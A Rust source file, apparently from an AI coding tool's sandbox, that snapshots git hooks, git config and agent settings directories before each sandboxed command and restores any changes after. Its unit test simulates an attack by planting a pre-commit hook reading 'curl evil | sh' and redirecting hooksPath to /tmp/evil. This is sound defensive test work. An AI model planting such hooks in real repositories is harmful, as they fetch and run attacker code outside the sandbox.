//! Protected paths: places inside the writable working directory where a
//! sandboxed command could plant code that later runs *outside* the
//! sandbox — `.git/hooks`, `.git/config`, `.tern/`, `.claude/` and the hook
//! scripts that settings name.
//!
//! Landlock rules are hierarchical: allowing writes in the working
//! directory allows them everywhere below it. So instead of a rule these
//! paths get a snapshot before each sandboxed command and a comparison
//! after it; anything changed, added or removed is put back as it was and
//! reported. See `docs/sandbox.md` for the threat model.

use std::path::{Path, PathBuf};

/// More than this is not snapshotted (and tern says so).
const MAX_FILES: usize = 4000;
const MAX_BYTES: usize = 16 * 1024 * 1024;

#[derive(Debug, Clone, PartialEq, Eq)]
struct Saved {
    bytes: Vec<u8>,
    mode: u32,
}

#[derive(Debug, Default)]
pub struct Snapshot {
    roots: Vec<PathBuf>,
    files: Vec<(PathBuf, Saved)>,
    /// Set when the trees were too large to keep whole.
    pub incomplete: bool,
}

/// The protected paths for a working directory, plus `extra` (hook
/// scripts and `denyWrite` paths that lie in writable roots).
pub fn roots(cwd: &Path, extra: &[PathBuf]) -> Vec<PathBuf> {
    let mut r: Vec<PathBuf> = [".git/hooks", ".git/config", ".tern", ".claude"]
        .iter()
        .map(|p| cwd.join(p))
        .collect();
    r.extend(extra.iter().cloned());
    r
}

fn walk(root: &Path, out: &mut Vec<PathBuf>) {
    let mut stack = vec![root.to_path_buf()];
    while let Some(p) = stack.pop() {
        if out.len() > MAX_FILES {
            return;
        }
        let Ok(meta) = std::fs::symlink_metadata(&p) else {
            continue;
        };
        if meta.is_dir() {
            if let Ok(entries) = std::fs::read_dir(&p) {
                stack.extend(entries.flatten().map(|e| e.path()));
            }
        } else {
            out.push(p);
        }
    }
}

pub fn take(roots: &[PathBuf]) -> Snapshot {
    use std::os::unix::fs::PermissionsExt;
    let mut snap = Snapshot {
        roots: roots.to_vec(),
        ..Snapshot::default()
    };
    let mut paths = Vec::new();
    for r in roots {
        walk(r, &mut paths);
    }
    let mut total = 0;
    for p in paths {
        let Ok(meta) = std::fs::symlink_metadata(&p) else {
            continue;
        };
        let bytes = if meta.file_type().is_symlink() {
            std::fs::read_link(&p)
                .map(|t| t.into_os_string().into_encoded_bytes())
                .unwrap_or_default()
        } else {
            std::fs::read(&p).unwrap_or_default()
        };
        total += bytes.len();
        if total > MAX_BYTES || snap.files.len() >= MAX_FILES {
            snap.incomplete = true;
            break;
        }
        let mode = if meta.file_type().is_symlink() {
            0
        } else {
            meta.permissions().mode()
        };
        snap.files.push((p, Saved { bytes, mode }));
    }
    snap
}

impl Snapshot {
    /// Puts back whatever changed since the snapshot; returns what it did.
    pub fn restore(&self) -> Vec<String> {
        use std::os::unix::fs::PermissionsExt;
        let mut notes = Vec::new();
        let mut now = Vec::new();
        for r in &self.roots {
            walk(r, &mut now);
        }
        for p in &now {
            let is_new = !self.files.iter().any(|(q, _)| q == p);
            if is_new && !self.incomplete && std::fs::remove_file(p).is_ok() {
                notes.push(format!("removed new file {}", p.display()));
            }
        }
        for (p, saved) in &self.files {
            let current = std::fs::symlink_metadata(p).ok().map(|m| {
                let bytes = if m.file_type().is_symlink() {
                    std::fs::read_link(p)
                        .map(|t| t.into_os_string().into_encoded_bytes())
                        .unwrap_or_default()
                } else {
                    std::fs::read(p).unwrap_or_default()
                };
                let mode = if m.file_type().is_symlink() {
                    0
                } else {
                    m.permissions().mode()
                };
                Saved { bytes, mode }
            });
            if current.as_ref() == Some(saved) {
                continue;
            }
            if saved.mode == 0 {
                // A symlink: recreate it.
                let _ = std::fs::remove_file(p);
                let target = <std::ffi::OsString as std::os::unix::ffi::OsStringExt>::from_vec(
                    saved.bytes.clone(),
                );
                let _ = std::os::unix::fs::symlink(target, p);
            } else {
                if let Some(dir) = p.parent() {
                    let _ = std::fs::create_dir_all(dir);
                }
                let _ = std::fs::remove_file(p);
                let _ = std::fs::write(p, &saved.bytes);
                let _ = std::fs::set_permissions(p, std::fs::Permissions::from_mode(saved.mode));
            }
            notes.push(format!("restored {}", p.display()));
        }
        notes
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn changes_are_undone_and_reported() {
        let d = std::env::temp_dir().join(format!(
            "tern-protect-{}-{}",
            std::process::id(),
            fastrand::u64(..)
        ));
        std::fs::create_dir_all(d.join(".git/hooks")).unwrap();
        std::fs::write(d.join(".git/hooks/pre-push.sample"), "sample").unwrap();
        std::fs::write(d.join(".git/config"), "[core]\n").unwrap();
        let snap = take(&roots(&d, &[]));
        std::fs::write(d.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
        std::fs::write(d.join(".git/config"), "[core]\n\thooksPath = /tmp/evil\n").unwrap();
        std::fs::remove_file(d.join(".git/hooks/pre-push.sample")).unwrap();
        std::fs::write(d.join("ordinary.txt"), "not protected").unwrap();
        let mut notes = snap.restore();
        notes.sort();
        assert_eq!(notes.len(), 3, "{notes:?}");
        assert!(!d.join(".git/hooks/pre-commit").exists());
        assert_eq!(
            std::fs::read_to_string(d.join(".git/config")).unwrap(),
            "[core]\n"
        );
        assert_eq!(
            std::fs::read_to_string(d.join(".git/hooks/pre-push.sample")).unwrap(),
            "sample"
        );
        assert!(d.join("ordinary.txt").exists());
        assert!(
            snap.restore().is_empty(),
            "a second pass finds nothing to do"
        );
    }
}
